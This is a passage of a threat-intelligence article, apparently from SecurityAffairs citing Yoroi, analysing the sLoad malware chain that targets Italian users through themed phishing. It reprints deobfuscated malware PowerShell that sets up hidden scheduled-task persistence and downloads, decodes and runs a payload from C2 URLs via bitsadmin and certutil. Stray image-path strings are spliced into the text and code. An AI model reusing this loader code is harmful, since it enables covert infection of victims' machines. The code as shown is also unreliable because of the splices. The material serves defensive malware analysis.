  9. If(test-path $Z5lTNXB”\_in”){$gQd0DB82ByQ0pziwKZ=Get-ChildItem $Z5lTNXB”\_in”;$FQDO2rSjJJxrkrYFWM1W = Get-Date;if ($gQd0DB82ByQ0pziwKZ.LastWriteTime -gt$FQDO2rSjJJxrkrYFWM1W.AddMinutes(-30)){break;break;}}; “1” | out-file $Z5lTNXB”\_in”;
  10. try{ Remove-Item $Z5lTNXB’\*’}catch{}
  11. $wsxDITPgQCH=”76492d1 […] A1AA==”;
  12. $wsxDITPgQCH | out-file $Z5lTNXB’\config.ini’;
  13. $5r8DcJB4ok4=”7649 […] AGIA”;
  14. $5r8DcJB4ok4 | out-file $Z5lTNXB’\web.ini’;
  15. start-process -windowstyle hidden schtasks ‘/change /tn GoFast /disable’;
  16. $2aWxu9dutZfOPCCgS=”Dim winssh […] “powershell -ep bypass -file vJjFwtSM.ps1″,0,true”;
  17. $2aWxu9dutZfOPCCgS | out-file $Z5lTNXB’\’$lNlNrKyk’.tmp’
  18. $r1uIiPZBhUea0=” $zTxePJtpmbVI0btT6cd9=Get-Process -name powershell*; […]Invoke-Expression $NLO3lwvn1xWn;}”;
  19. $r1uIiPZBhUea0 | out-file $Z5lTNXB’\’$lNlNrKyk’.ps1′
  20. $nz0oninX6=”1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16″;
  21. $E6M6Np8nhXnu4ndPEJ=”/F /create /sc minute /mo 3 /TN “U52A34D” /ST 07:00 /TR “wscript /E:vbscript C:\Users\admin\AppData\Roaming\52A34D\vJjFwtSM.tmp”;
  22. start-process -windowstyle hidden schtasks $E6M6Np8nhXnu4ndPEJ;

Code snippet 6: Deobfuscated content of “x2401.jpg” file.

Like previous script, this one perform the same operations and create other four file in “%AppData%\Roaming\<active_process>”path. This time the files are:

Figure 7: Files created in “%AppData%\Roaming\<active_process>\”
  • <random_name>.tmp
  • <random_name>.ps1
  • config.ini
  • web.ini

The first executed file is “<random_name>.tmp”. It is not obfuscatedand its only purpose is the execution of “<random_name>.ps1”. The content of “<random_name>.ps1” file is the following. The latest script decrypt the content of “config.ini” file. The following figure shown both encrypted and decrypted “config.ini” file.

Figure 8: Files created in “%AppData%\Roaming\<active_process>\”

This script performs the same operation described in “main.ini” file but use different URLs stored in the “web.ini” file. Also this time, the file is decrypted using an integer array from 1 to 16  as key and contained in “$mainKey” variable.

Figure 9: “web.ini” file before and after decryption

Finally, it tries to download the final payload with the following piece of script. However, at the time of analysis, all the C2 URLs seems to be down, so we are not able to detect the final payload family.

  1. $dPath = [Environment]::GetFolderPath(“MyDocuments”)
  2. $jerry=$starsLord+’\’+$roccon+’_’+$rp;
  3. $clpsr=’/C bitsadmin /transfer ‘+$rp+’ /download /priority FOREGROUND ‘+$line+’ ‘+$jerry+’.txt & Copy /Z ‘+$jerry+’.txt ‘+$jerry+’_1.txt & certutil -decode ‘+$jerry+’_1.txt ‘+$dPath+’\’+$roccon+’_’+$rp+’.exe & powershell -command “start-process ‘+$dPath+’\’+$roccon+’_’+$rp+’.exe” & exit’;
  4. start-process -wiNdowStylE HiddeN $mainDMC $clpsr;
  5. $clpsr=’/C del ‘+$jerry+’.txt & del ‘+$jerry+’_1.txt & del ‘+$dPath+’\’+$roccon+’_’+$rp+’.exe & exit’;
  6. start-process -wiNdowStylE HiddeN $mainDMC $clpsr;

Code snippet 7: script to download the final payload

Comparison With Previous Chains

To better understand the evolution of sLoad infection chain, we compared attack attempts observed since 2018 and the latest ones. In both cases, the infection vector is a carefully themed malicious email, weaponized with zip archive containing two files. In the first case the starting point is a “.lnk” fileand in the second one the chain starts with a “.vbs” script.

The sLoad attack chain observed months ago was characterized by some pieces of powershell code appended to the tail of the zip archive. Probably, this technique become more detectable during the time, so it could have been deprecated in latest infections attempts. For both malware variants, the archive contains a legit image (or pdf) used to deceive the unaware user. Moreover, in the first analyzed variant, the core of the infection is mainly based on powershell scripts and LOLbins. However, the latest stages uses a mix of Powershell and Visual Basic Scripts.

Figure 10: Infection chain workflow

The agent body is still quite similar in the core structure, however the bot now supports new commands such as “Exec” and “Eval”, the latter is able to download further code through the Bitsadmin utility instead of directly rely on “Net.WebClient” primitive. Also, the “ScreenCapture” function have been removed from the new version of the code, in favor to the enhancement of the agent persistence through scheduled task.

Figure 11: Comparison between old and new version on “config.ini” file


sLoad is keeping evolving their TTPs and represents a vivid threat for the Italian cyber-panorama. Also, many times, especially during the last months, its activities in the country involved the abuse of certified mailboxes (PEC) targeting associated professionals andconsultants, along with private companies. Additionally, the quality of the latest phishing emails is high: the group adopted templates and naming conventions actually in use by  Italian Revenue Agency (“Agenzia delle Entrate”).

The plentiful usage of LOLbins, Powershell scripts and SSL encrypted channels, makes detection of this threat difficult for automated systems, and frequently requires analysis abilities or high quality threat intelligence sources to detect and tackle sLoad attack campaigns, many times targeting just a single country.

Experts published a post on the Yoroi blog:

[adrotatebanner=”9″] [adrotate banner=”12″]

Pierluigi Paganini(SecurityAffairs – sLoad, malware)

[adrotatebanner=”5″]

[adrotate banner=”13″]

you might also like

leave a comment